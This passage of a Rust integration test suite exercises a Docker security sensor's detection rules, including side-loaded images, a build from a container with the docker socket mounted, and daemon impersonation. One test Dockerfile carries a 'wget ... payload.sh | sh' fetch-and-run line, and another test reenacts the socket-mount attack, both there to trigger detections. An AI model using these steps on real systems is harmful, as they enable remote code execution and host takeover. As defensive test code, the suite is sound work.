        "image_side_loaded for the crafted archive",
        |e| e["operation"]["type"] == "load",
    );
    assert!(
        loaded["detection"]["summary"]
            .as_str()
            .unwrap_or_default()
            .contains(&format!("docker.io/{name}")),
        "named from the store when the load ended: {loaded}"
    );
    let mark = world.sensor.mark();
    create_and_remove(env, env.docker().args(["create", "--network", "none", &name]));
    let found = world.sensor.detection(
        mark,
        "run_of_unpulled_image",
        "run_of_unpulled_image for the loaded image, by name",
        |e| e["operation"]["image"] == name.as_str(),
    );
    let reasons = strings(&found["detection"]["reasons"]);
    assert!(
        reasons.iter().any(|r| r.contains("came from load")),
        "{reasons:?}"
    );
    // The image's id: its config digest in the classic store, the digest of the manifest the
    // daemon wrote for it in containerd's.
    let id = run_command(env.docker().args(["image", "inspect", "-f", "{{.Id}}", &name]));
    let id = id.trim().trim_start_matches("sha256:").to_string();
    if matches!(env.engine, MainEngine::Debian) {
        assert_eq!(id, config_id);
    }
    let short = &id[..12];
    let mark = world.sensor.mark();
    create_and_remove(env, env.docker().args(["create", "--network", "none", short]));
    let found = world.sensor.detection(
        mark,
        "run_of_unpulled_image",
        "run_of_unpulled_image for the loaded image, by id",
        |e| e["operation"]["image"] == short,
    );
    assert!(
        found["detection"]["summary"]
            .as_str()
            .unwrap_or_default()
            .contains(&format!("sha256:{id}")),
        "{found}"
    );
}

/// A pull seen by one sensor excuses a build seen by the next one with the same state: the
/// repository is this scenario's own, so only the persisted pull can.
fn ledger_survives_a_restart(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let state = TempConfig::new("restart", "");
    let state_dir = state.path.with_file_name("ledger-state");
    let config = sensor_config(env, &state_dir);
    let repository = format!("{REGISTRY}/bwrestart-{nonce}");
    let pulled = format!("{repository}:1");
    publish_as(env, &pulled);
    {
        let first = Sensor::start(&world.binary, &config);
        let mark = first.mark();
        run_command(env.docker().args(["pull", &pulled]));
        first.confirmed_pull(mark, &pulled);
        let status = first
            .terminate(Duration::from_secs(15))
            .expect("the first sensor did not stop");
        assert!(status.success(), "first sensor: {status}\n{}", first.stderr());
    }
    assert!(
        state_dir.join("ledger.json").is_file(),
        "no ledger in {}",
        state_dir.display()
    );
    let second = Sensor::start(&world.binary, &config);
    let mark = second.mark();
    let context = env.context(
        "det-restart",
        &format!("FROM {BASE_IMAGE}\nLABEL restart={nonce}\n"),
    );
    let tag = format!("{repository}:restart");
    run_command(env.docker().args(["build", "-t", &tag]).arg(&context));
    second.stays_quiet(
        mark,
        "the build after the restart",
        |e| kind(e) == "build" && has_tag(&e["build"], &tag),
        "the persisted pull must excuse the build",
        |e| kind(e) == "detection" && has_tag(&e["build"], &tag),
    );
    // The main sensor saw the same pull, so it must not flag it either; a sensor without the
    // history would (checked by local_untagged_build_is_medium and the unit tests).
    let status = second
        .terminate(Duration::from_secs(15))
        .expect("the second sensor did not stop");
    assert!(status.success(), "second sensor: {status}\n{}", second.stderr());
}

/// The classic attack: the docker socket mounted into a container, and a build from inside it.
/// The client is named with its container; a sensor that allowlists the container's image
/// suppresses (and counts) the detection.
fn build_from_a_container_with_the_socket_mounted(world: &World) {
    let env = &world.env;
    let nonce = &env.nonce;
    let tag = format!("bwdet/incontainer:{nonce}");
    let context = env.context(
        "incontainer",
        &format!("FROM {BASE_IMAGE}\nLABEL incontainer={nonce}\n"),
    );
    run_command(env.docker().args(["pull", BASE_IMAGE]));
    let allowing = sensor_config_with(
        env,
        &env.dir.join("allowing-state"),
        &format!("[allow]\ncontainer_images = [\"{REGISTRY}/bwbase*\"]\n"),
    );
    let allowing = Sensor::start(&world.binary, &allowing);
    let mark = world.sensor.mark();
    let name = format!("bwdet-mounted-{nonce}");
    let volume = |host: &Path, inside: &str, mode: &str| format!("{}:{inside}{mode}", host.display());
    // The Debian docker client needs only libc, taken from the host.
    run_command(env.docker().args([
        "run",
        "--name",
        &name,
        "--network",
        "none",
        "-e",
        "DOCKER_BUILDKIT=0",
        "-v",
        &volume(&env.socket, "/var/run/docker.sock", ""),
        "-v",
        &volume(Path::new("/usr/bin/docker"), "/docker", ":ro"),
        "-v",
        &volume(
            Path::new("/usr/lib/x86_64-linux-gnu"),
            "/lib/x86_64-linux-gnu",
            ":ro",
        ),
        "-v",
        &volume(Path::new("/usr/lib64"), "/lib64", ":ro"),
        "-v",
        &volume(&context, "/ctx", ":ro"),
        BASE_IMAGE,
        "/docker",
        "build",
        "-t",
        &tag,
        "/ctx",
    ]));
    let id = run_command(env.docker().args(["inspect", "-f", "{{.Id}}", &name]));
    run_command(env.docker().args(["rm", &name]));
    let found = world
        .sensor
        .detection(mark, "build_without_pull", "the in-container build", |e| {
            has_tag(&e["build"], &format!("docker.io/{tag}"))
        });
    let client = &found["build"]["client"];
    assert_eq!(
        client["container_id"],
        id.trim(),
        "the client's container: {client}"
    );
    assert_eq!(client["exe"], "/docker", "{client}");
    assert_eq!(
        found["build"]["endpoint"],
        format!("unix:{}", env.socket.display())
    );
    // The allowlisting sensor saw the same build and suppressed it.
    allowing.stays_quiet(
        0,
        "the in-container build (allowlisted)",
        |e| kind(e) == "build" && has_tag(&e["build"], &format!("docker.io/{tag}")),
        "an allowlisted image's build must not be flagged",
        |e| kind(e) == "detection" && has_tag(&e["build"], &format!("docker.io/{tag}")),
    );
    let status = allowing
        .terminate(Duration::from_secs(15))
        .expect("the allowing sensor did not stop");
    assert!(status.success());
    let stop = allowing.wait_for(0, TIMEOUT, "sensor.stop", |e| kind(e) == "sensor.stop");
    assert!(
        stop["stats"]["detect"]["suppressed"]["build_without_pull"]
            .as_u64()
            .unwrap_or_default()
            >= 1,
        "the suppression is counted: {stop}"
    );
}

fn recordings_dir() -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("recordings");
    std::fs::create_dir_all(&dir).expect("creating the recordings directory");
    dir
}

/// `buildwatch replay` of a recording: its output lines.
fn replay(binary: &Path, recording: &Path, all: bool) -> Vec<Value> {
    let mut command = Command::new(binary);
    command.arg("replay").arg(recording);
    if all {
        command.arg("--all");
    }
    let output = command.output().expect("running buildwatch replay");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "replay failed: {stderr}");
    assert!(
        !stderr.contains("did not match"),
        "the recording did not answer the replay: {stderr}"
    );
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("replay prints JSON lines"))
        .collect()
}

/// Two processes take daemons' names at once (copies of `sleep` named dockerd and containerd):
/// two findings, two ids. Then every detection the main sensor wrote in the whole suite has an
/// id of its own.
fn detection_ids_are_unique_across_the_suite(world: &World) {
    let dir = world.env.dir.join("impostors");
    std::fs::create_dir_all(&dir).expect("creating the impostors' directory");
    let impostors: Vec<PathBuf> = ["dockerd", "containerd"]
        .iter()
        .map(|name| {
            let path = dir.join(name);
            std::fs::copy("/bin/sleep", &path).expect("copying sleep");
            path
        })
        .collect();
    let mark = world.sensor.mark();
    let running: Vec<std::process::Child> = impostors
        .iter()
        .map(|path| Command::new(path).arg("3").spawn().expect("starting an impostor"))
        .collect();
    for path in &impostors {
        let exe = path.to_string_lossy().into_owned();
        world.sensor.detection(
            mark,
            "daemon_impersonation",
            &format!("daemon_impersonation of {exe}"),
            |e| e["api"]["client"]["exe"] == exe.as_str(),
        );
    }
    for mut child in running {
        let _ = child.wait();
    }
    let count = world.sensor.assert_unique_detection_ids();
    let rules: BTreeSet<String> = world
        .sensor
        .all(0, |e| kind(e) == "detection")
        .iter()
        .filter_map(|e| e["detection"]["rule"].as_str().map(String::from))
        .collect();
    assert!(
        count >= 10 && rules.len() >= 5,
        "the suite raised only {count} detections of {rules:?}"
    );
}

/// Every detection of the live run, byte for byte, from the replay of its recording.
fn replay_equals_live(world: &World) {
    let status = world
        .sensor
        .terminate(Duration::from_secs(15))
        .expect("the main sensor did not stop");
    assert!(status.success(), "{}", world.sensor.stderr());
    // The loaded archive's body past its kept prefix was skipped by the kernel, not copied,
    // and every detection above still had its evidence.
    let stop = world
        .sensor
        .wait_for(0, TIMEOUT, "sensor.stop", |e| kind(e) == "sensor.stop");
    assert!(
        stop["stats"]["quiet_skipped_bytes"].as_u64().unwrap_or_default() > 0,
        "the kernel copied every byte: {}",
        stop["stats"]
    );
    let live = world.sensor.all(0, |e| kind(e) == "detection");
    assert!(
        live.len() >= 8,
        "the scenarios raised only {} detections",
        live.len()
    );
    let replayed = replay(
        &world.binary,
        &recordings_dir().join("detection-run.jsonl"),
        false,
    );
    assert_eq!(replayed.len(), live.len(), "replay: {replayed:?}");
    for (live, replayed) in live.iter().zip(&replayed) {
        assert_eq!(live, replayed, "replay differs from live");
    }
    // Not only detections: every event line the engine wrote is reproduced.
    let live_all = world.sensor.all(0, |e| !kind(e).starts_with("sensor."));
    let replayed_all: Vec<Value> = replay(&world.binary, &recordings_dir().join("detection-run.jsonl"), true)
        .into_iter()
        .filter(|e| !kind(e).starts_with("sensor."))
        .collect();
    assert_eq!(replayed_all.len(), live_all.len());
    // The engine's own sensor lines (daemons trusted) are reproduced too.
    let live_daemons = world.sensor.all(0, |e| kind(e) == "sensor.daemon");
    let replayed_daemons: Vec<Value> =
        replay(&world.binary, &recordings_dir().join("detection-run.jsonl"), true)
            .into_iter()
            .filter(|e| kind(e) == "sensor.daemon")
            .map(|mut e| {
                e["id"] = Value::Null;
                e
            })
            .collect();
    let live_daemons: Vec<Value> = live_daemons
        .into_iter()
        .map(|mut e| {
            e["id"] = Value::Null;
            e
        })
        .collect();
    assert!(!live_daemons.is_empty(), "the test daemon's trust is reported");
    assert_eq!(live_daemons, replayed_daemons);
    assert!(
        live_all == replayed_all,
        "some replayed line differs from the live one"
    );
}

/// Records a few actions with a sensor of their own (only the test daemon's socket and port, so
/// the file stays small: the kind shipped in sensor/testdata/recordings), then checks the replay
/// gives the live run's detections, which must include `rules`. Returns every line it wrote.
fn record(world: &World, file: &str, rules: &[&str], actions: impl FnOnce(&Environment)) -> Vec<Value> {
    let env = &world.env;
    let path = recordings_dir().join(file);
    let config = TempConfig::new(
        "recorded",
        &format!(
            "[watch]\nunix_sockets = [\"{}\"]\ntcp_ports = [2375]\ndaemons = [\"dockerd\", \"podman\"]\ndaemon_binaries = [\"{}\", \"/usr/bin/podman\"]\n[detect]\nstate_dir = \"{}\"\ndocker_data_root = \"{}\"\n",
            env.socket.display(),
            env.engine.dockerd().display(),
            env.dir.join(format!("state-{file}")).display(),
            env.dir.join("data").display()
        ),
    );
    let recorder = Sensor::start_with(
        &world.binary,
        &config.path,
        &[OsStr::new("--record"), path.as_os_str()],
        &[],
    );
    actions(env);
    let last = rules.last().copied().unwrap_or_default();
    recorder.wait_for(0, TIMEOUT, &format!("the {last} detection"), |e| {
        kind(e) == "detection" && e["detection"]["rule"] == last
    });
    let status = recorder
        .terminate(Duration::from_secs(15))
        .expect("the recording sensor did not stop");
    assert!(status.success());
    let live = recorder.all(0, |e| kind(e) == "detection");
    let seen: BTreeSet<&str> = live
        .iter()
        .filter_map(|d| d["detection"]["rule"].as_str())
        .collect();
    for rule in rules {
        assert!(
            seen.contains(rule),
            "{rule} missing from the recorded run: {seen:?}"
        );
    }
    assert_eq!(replay(&world.binary, &path, false), live);
    recorder.all(0, |_| true)
}

fn small_recording_of_a_remote_attack(world: &World) {
    let nonce = world.env.nonce.clone();
    let rules = [
        "api_exposed",
        "build_without_pull",
        "build_egress",
        "run_of_unpulled_image",
    ];
    let lines = record(world, "remote-build-and-privileged-run.jsonl", &rules, |env| {
        let context = env.context(
            "recorded",
            &format!("FROM {BASE_IMAGE}\nRUN wget -q -O - http://127.0.0.1:9/payload.sh | sh || true\n"),
        );
        let tag = format!("bwdet/recorded:{nonce}");
        run_command(env.remote_docker().args(["build", "-t", &tag]).arg(&context));
        create_and_remove(
            env,
            env.remote_docker()
                .args(["create", "--privileged", "--network", "none", &tag, "true"]),
        );
    });
    // containerd was started by dockerd before this sensor: its shims' build steps are still
    // followed (seeded descendants).
    let connected = lines.iter().any(|l| {
        kind(l) == "build"
            && l["build"]["egress"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|e| e["kind"] == "step_connection" && e["destination"] == "127.0.0.1:9")
    });
    assert!(
        connected,
        "the step's connection is missing from the recorded build"
    );
}

fn small_recording_of_local_builds(world: &World) {
    let nonce = world.env.nonce.clone();
    let rules = ["build_without_pull", "run_of_unpulled_image", "image_side_loaded"];
    record(world, "local-builds-and-import.jsonl", &rules, |env| {
        // The CI pattern (not flagged), a BuildKit build (flagged), an untagged build run by its
        // id (flagged twice), an import (side-loaded).
        let context = env.context(
            "recorded-local",
            &format!("FROM {BASE_IMAGE}\nLABEL local={nonce}\n"),
        );
        run_command(env.docker().args(["pull", BASE_IMAGE]));
        let ci_tag = format!("{BASE_IMAGE}-ci-{nonce}");
        run_command(
            env.docker()
                .args(["build", "--cache-from", BASE_IMAGE, "-t", &ci_tag])
                .arg(&context),
        );
        run_command(
            env.docker()
                .env("DOCKER_BUILDKIT", "1")
                .args([
                    "build",
                    "--network",
                    "none",
                    "-t",
                    &format!("bwdet/local:{nonce}"),
                ])
                .arg(&context),
        );
        let by_id = env.context(
            "recorded-by-id",
            &format!("FROM {BASE_IMAGE}\nRUN echo {nonce} > /marker\n"),
        );
        let id = run_command(env.docker().args(["build", "-q"]).arg(&by_id));
        create_and_remove(
            env,
            env.docker()
                .args(["create", "--network", "none", id.trim(), "true"]),
        );
        // A tiny root filesystem keeps the recording small (a `docker load` archive would be
        // megabytes of captured bytes).
        let rootfs = env.dir.join("recorded-import");
        std::fs::create_dir_all(&rootfs).expect("creating a root filesystem");
        std::fs::write(rootfs.join("payload"), "#!/bin/sh\necho side-loaded\n").expect("writing a file");
        let tarball = env.dir.join("recorded-import.tar");
        run(
            "tar",
            &[
                "-C",
                &rootfs.to_string_lossy(),
                "-cf",
                &tarball.to_string_lossy(),
                ".",
            ],
        );
        run_command(env.docker().args([
            "import",
            &tarball.to_string_lossy(),
            &format!("bwdet/imported:{nonce}"),
        ]));
    });
}

/// `docker create ...` (the request the rules judge), then removes the container.
fn create_and_remove(env: &Environment, create: &mut Command) {
    let container = run_command(create);
    run_command(env.docker().args(["rm", container.trim()]));
}

/// A line's `time` in nanoseconds since the epoch; a missing or malformed time fails the test.
fn time_ns(event: &Value) -> i128 {
    let since = time(event)
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap_or_else(|err| panic!("a time before the epoch: {err}"));
    since.as_nanos() as i128
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port")
}
